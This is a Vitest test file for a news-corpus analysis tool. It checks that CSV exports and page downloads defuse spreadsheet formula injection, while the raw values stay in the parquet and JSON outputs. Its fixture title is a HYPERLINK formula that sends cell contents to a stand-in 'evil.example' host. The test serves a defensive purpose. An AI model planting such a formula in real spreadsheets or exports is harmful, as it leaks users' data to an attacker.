import { readFile, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readParquet } from '@framelens/aggregate';
import { tempRepo } from '@framelens/tools';
import { main } from './main.js';

const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';

describe('CSV files of a corpus whose titles, sentences and outlet names look like formulas', () => {
  let repo: string;
  const report = (name: string) => readFile(path.join(repo, 'reports', 'kazakhstan-2022', name), 'utf8');
  beforeAll(async () => {
    repo = await tempRepo({ pipeline: true });
    const nd = path.join(repo, 'corpus', 'kazakhstan-2022', 'nd');
    await writeFile(path.join(nd, 'outlet.yaml'), (await readFile(path.join(nd, 'outlet.yaml'), 'utf8')).replace(/^name: nd$/m, 'name: "@nd"'));
    await writeFile(path.join(nd, '2022-01-07-evil.md'), `---\ntitle: '${EVIL}'\ndate: "2022-01-07"\n---\n-Die Regierung sprach von „Terrorbanden“ und Terroristen.\n`);
    const io = { cwd: repo, stdout: () => {}, stderr: () => {}, isTTY: false, color: false };
    expect(await main(['analyze', 'pipelines/kazakhstan-2022', '--workers', '1', '--quiet'], io)).toBe(0);
  }, 120_000);
  afterAll(async () => {
    await rm(repo, { recursive: true, force: true });
  });

  it("outlets.csv starts such cells with ' (OWASP); articles.parquet and hits.parquet keep the raw values", async () => {
    expect(await report('data/outlets.csv')).toContain(`nd,"'@nd",`);
    const titles = await readParquet<{ title: string }>(path.join(repo, 'reports', 'kazakhstan-2022', 'data', 'articles.parquet'), (t) => `SELECT title FROM ${t} WHERE title IS NOT NULL`);
    expect(titles.map((a) => a.title)).toContain(EVIL);
    const sentences = await readParquet<{ sentence: string }>(path.join(repo, 'reports', 'kazakhstan-2022', 'data', 'hits.parquet'), (t) => `SELECT DISTINCT sentence FROM ${t}`);
    expect(sentences.map((s) => s.sentence)).toContain('-Die Regierung sprach von „Terrorbanden“ und Terroristen.');
    // no cell of any line starts a formula
    for (const file of ['data/outlets.csv', 'data/outlet-frames.csv', 'data/claims.csv']) {
      for (const line of (await report(file)).split('\r\n')) expect(line).not.toMatch(/(^|,)"?[=+@]/);
    }
  });

  it("the page's CSV downloads use the same writer; report.json keeps the raw values", async () => {
    const html = await report('index.html');
    const downloads = [...html.matchAll(/href="data:text\/csv;charset=utf-8,([^"]*)"/g)].map((m) => decodeURIComponent(m[1]!));
    expect(downloads.length).toBeGreaterThan(0);
    // the outlet's label there is "@nd (2 articles)"
    expect(downloads.some((csv) => csv.includes(`,"'@nd (2 articles)",`))).toBe(true);
    expect(downloads.some((csv) => /(^|,)"?@nd/m.test(csv))).toBe(false);
    const json = JSON.parse(await report('report.json')) as { articles: { title?: string }[]; outlets: { name: string }[] };
    expect(json.articles.map((a) => a.title)).toContain(EVIL);
    expect(json.outlets.map((o) => o.name)).toContain('@nd');
  });
});
